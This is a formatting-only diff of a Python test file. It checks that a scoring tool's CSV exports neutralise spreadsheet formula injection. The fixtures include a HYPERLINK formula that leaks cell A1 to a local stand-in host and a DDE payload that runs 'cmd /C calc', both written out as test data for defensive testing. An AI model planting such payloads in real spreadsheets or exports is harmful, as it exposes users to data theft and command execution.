@@ -21,18 +21,33 @@ PACKAGE_ROOT = Path(conflictscore_local.__file__).resolve().parents[1]
 LINK = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
 CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
 HOSTILE = [
-    {"id": LINK, "response": "=1+1", "claims": ["=1+1", "+1 is a number", "-2+3 is one"],
-     "documents": [{"id": CMD, "text": "yes"}, {"id": "\tTAB", "text": "no"}],
-     "labels": [["SUPPORT", "CONTRADICT"], ["SUPPORT", "IRRELEVANT"], ["IRRELEVANT", "SUPPORT"]]},
-    {"id": "\rCR-1", "response": "plain", "claims": ["a plain claim - with a dash", "'quoted already"],
-     "documents": [{"id": "d0", "text": "x"}], "labels": [["SUPPORT"], ["CONTRADICT"]]},
+    {
+        "id": LINK,
+        "response": "=1+1",
+        "claims": ["=1+1", "+1 is a number", "-2+3 is one"],
+        "documents": [{"id": CMD, "text": "yes"}, {"id": "\tTAB", "text": "no"}],
+        "labels": [["SUPPORT", "CONTRADICT"], ["SUPPORT", "IRRELEVANT"], ["IRRELEVANT", "SUPPORT"]],
+    },
+    {
+        "id": "\rCR-1",
+        "response": "plain",
+        "claims": ["a plain claim - with a dash", "'quoted already"],
+        "documents": [{"id": "d0", "text": "x"}],
+        "labels": [["SUPPORT"], ["CONTRADICT"]],
+    },
 ]
 
 
 def cs(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
     """The command in a subprocess; stdout and stderr decoded as they are (a CR stays a CR)."""
-    done = subprocess.run([sys.executable, "-m", "conflictscore_local.cli", *args], cwd=cwd, capture_output=True,
-                          timeout=300, check=False, env={**os.environ, "PYTHONPATH": str(PACKAGE_ROOT)})
+    done = subprocess.run(
+        [sys.executable, "-m", "conflictscore_local.cli", *args],
+        cwd=cwd,
+        capture_output=True,
+        timeout=300,
+        check=False,
+        env={**os.environ, "PYTHONPATH": str(PACKAGE_ROOT)},
+    )
     return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())
 
 
@@ -46,11 +61,23 @@ def rows(text: str) -> list[dict[str, str]]:
 
 def test_the_rule_on_cells() -> None:
     assert [neutral_cell(s) for s in ("=1+1", "+1", "-2", "@x", "\tx", "\rx", "a=b", "", "'=x", "1e5")] == [
-        "'=1+1", "'+1", "'-2", "'@x", "'\tx", "'\rx", "a=b", "", "'=x", "1e5"]
+        "'=1+1",
+        "'+1",
+        "'-2",
+        "'@x",
+        "'\tx",
+        "'\rx",
+        "a=b",
+        "",
+        "'=x",
+        "1e5",
+    ]
     assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
     # numbers are numbers (no spreadsheet runs them), text is text: -0.5 as a float stays -0.5
-    assert csv_text([{"a": -0.5, "b": "-0.5", "c": -3, "d": True, "e": None}], ["a", "b", "c", "d", "e"]) == \
-        "a,b,c,d,e\n-0.5,'-0.5,-3,true,\n"
+    assert (
+        csv_text([{"a": -0.5, "b": "-0.5", "c": -3, "d": True, "e": None}], ["a", "b", "c", "d", "e"])
+        == "a,b,c,d,e\n-0.5,'-0.5,-3,true,\n"
+    )
 
 
 def test_score_tables_neutralise_formula_cells(tmp_path: Path) -> None:
@@ -58,18 +85,34 @@ def test_score_tables_neutralise_formula_cells(tmp_path: Path) -> None:
     written as they are, live formulas when the table is opened."""
     inp = tmp_path / "inj.jsonl"
     inp.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
-    done = cs("score", str(inp), "-q", "--no-cache", "-o", "o.jsonl", "--csv", "items.csv", "--csv-pairs",
-              "pairs.csv", cwd=tmp_path)
+    done = cs(
+        "score",
+        str(inp),
+        "-q",
+        "--no-cache",
+        "-o",
+        "o.jsonl",
+        "--csv",
+        "items.csv",
+        "--csv-pairs",
+        "pairs.csv",
+        cwd=tmp_path,
+    )
     assert done.returncode == 0, done.stderr
     items = rows(read(tmp_path / "items.csv"))
     assert [r["id"] for r in items] == ["'" + LINK, "'\rCR-1"]
     assert [r["cs_c"] for r in items] == ["0.3333333333333333", "0.0"]  # numbers as numbers
     pairs = rows(read(tmp_path / "pairs.csv"))
     assert [(r["item_id"], r["claim"], r["doc_id"]) for r in pairs] == [
-        ("'" + LINK, "'=1+1", "'" + CMD), ("'" + LINK, "'=1+1", "'\tTAB"),
-        ("'" + LINK, "'+1 is a number", "'" + CMD), ("'" + LINK, "'+1 is a number", "'\tTAB"),
-        ("'" + LINK, "'-2+3 is one", "'" + CMD), ("'" + LINK, "'-2+3 is one", "'\tTAB"),
-        ("'\rCR-1", "a plain claim - with a dash", "d0"), ("'\rCR-1", "'quoted already", "d0")]
+        ("'" + LINK, "'=1+1", "'" + CMD),
+        ("'" + LINK, "'=1+1", "'\tTAB"),
+        ("'" + LINK, "'+1 is a number", "'" + CMD),
+        ("'" + LINK, "'+1 is a number", "'\tTAB"),
+        ("'" + LINK, "'-2+3 is one", "'" + CMD),
+        ("'" + LINK, "'-2+3 is one", "'\tTAB"),
+        ("'\rCR-1", "a plain claim - with a dash", "d0"),
+        ("'\rCR-1", "'quoted already", "d0"),
+    ]
     # no cell a spreadsheet would evaluate, in any column of either table
     for r in items + pairs:
         assert not any(v.startswith(FORMULA_STARTS) for v in r.values()), r
@@ -85,8 +128,9 @@ def test_score_tables_neutralise_formula_cells(tmp_path: Path) -> None:
 
 def test_compare_table_neutralises_ids_and_keeps_negative_numbers(tmp_path: Path) -> None:
     a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
-    one = [{"id": "=cmd", "response": "c", "claims": ["c"], "documents": ["x", "y"],
-            "labels": [["SUPPORT", "CONTRADICT"]]}]
+    one = [
+        {"id": "=cmd", "response": "c", "claims": ["c"], "documents": ["x", "y"], "labels": [["SUPPORT", "CONTRADICT"]]}
+    ]
     two = [{**one[0], "labels": [["SUPPORT", "SUPPORT"]]}]
     for path, items in ((a, one), (b, two)):
         src = path.with_suffix(".in.jsonl")
